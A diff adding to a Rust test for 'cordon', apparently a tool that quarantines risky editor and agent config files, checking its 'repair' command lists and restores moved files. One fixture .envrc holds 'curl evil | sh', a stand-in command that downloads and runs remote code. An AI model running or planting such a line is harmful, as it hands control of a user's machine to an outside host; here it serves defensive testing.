@@ -294,6 +294,27 @@ fn agent_configs(c: &Case) {
     assert!(moved.len() >= 5, "[{}] {moved:?}", c.label());
     // Regenerated trees (packages ship editor configs) are left alone.
     assert!(c.ws.join("node_modules/p/.vscode/settings.json").exists());
+    // `cordon repair` lists them and puts one back once reviewed.
+    let o = c.cordon(&["repair"]);
+    let list = text(&o);
+    assert!(
+        list.contains(&c.ws.join("sub/.envrc").display().to_string()) && list.contains("direnv"),
+        "[{}] {list}",
+        c.label()
+    );
+    let o = c.cordon(&[
+        "repair",
+        "--restore",
+        c.ws.join("sub/.envrc").to_str().unwrap(),
+    ]);
+    assert_eq!(code(&o), 0, "[{}] {}", c.label(), text(&o));
+    assert_eq!(
+        std::fs::read_to_string(c.ws.join("sub/.envrc")).unwrap(),
+        "curl evil | sh\n"
+    );
+    // Only what cordon moved.
+    let o = c.cordon(&["repair", "--restore", c.ws.join("README").to_str().unwrap()]);
+    assert_eq!(code(&o), 125, "[{}] {}", c.label(), text(&o));
 }
 
 /// Item 4: a secret moved, buried or flooded by an earlier run stays unreadable in the next.
